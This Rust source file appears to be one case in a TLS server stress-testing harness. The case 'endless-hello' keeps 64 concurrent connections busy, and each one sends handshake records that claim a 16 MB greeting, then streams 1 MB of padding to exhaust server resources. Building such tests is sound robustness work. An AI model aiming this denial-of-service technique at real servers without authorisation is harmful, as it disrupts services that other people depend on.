//! A greeting of TLS that does not end.

use futures_util::future::join_all;
use tokio::io::AsyncWriteExt;

use crate::attacker::Attacker;
use crate::case::{Attack, Budgets, Case};
use crate::ending::Ending;
use crate::hello::{HANDSHAKE, first_record};

/// Connections at the same time.
const AT_ONCE: usize = 64;
/// Bytes of the largest record, and of all of a connection: far more than the server takes.
const RECORD: usize = 16 << 10;
const SENT: usize = 1 << 20;

pub(super) struct EndlessHello;

impl Case for EndlessHello {
    fn name(&self) -> &'static str {
        "endless-hello"
    }

    fn does(&self) -> &'static str {
        "announces greetings of TLS of 16 MB and of as many records as may be, and sends 1 MB of each, 64 at a time"
    }

    fn budget(&self, budgets: &Budgets<'_>) -> u64 {
        budgets.connections(2 * AT_ONCE as u64)
    }

    fn needs_credentials(&self) -> bool {
        true
    }

    fn run<'a>(&'a self, attacker: &'a Attacker) -> Attack<'a> {
        Box::pin(async move {
            // One of a byte in each record makes the most records of it.
            let greetings = [greeting(RECORD), greeting(1)];
            let again = async |number: usize| {
                let records = &greetings[number % 2];
                while !attacker.is_over() {
                    let greeted = async {
                        let mut tcp = attacker.tcp().await?;
                        // What was refused before all of it was taken is told all the same.
                        tcp.write_all(records).await.ok();
                        Ok::<_, Ending>(first_record(&mut tcp).await)
                    };
                    if let Some(Ok(ending) | Err(ending)) = attacker.in_time(greeted).await {
                        attacker.note(ending);
                    }
                }
            };
            join_all((0..AT_ONCE).map(again)).await;
            Ok(())
        })
    }
}

/// The beginning of a greeting that says it has 16 MB, in records of so many bytes.
fn greeting(size: usize) -> Vec<u8> {
    let mut records = Vec::new();
    record(&mut records, &[1, 0xff, 0xff, 0xff]);
    let rest = vec![0; size];
    while records.len() < SENT {
        record(&mut records, &rest);
    }
    records
}

/// Appends a record of the handshake.
fn record(out: &mut Vec<u8>, payload: &[u8]) {
    let [.., high, low] = payload.len().to_be_bytes();
    out.extend_from_slice(&[HANDSHAKE, 3, 1, high, low]);
    out.extend_from_slice(payload);
}
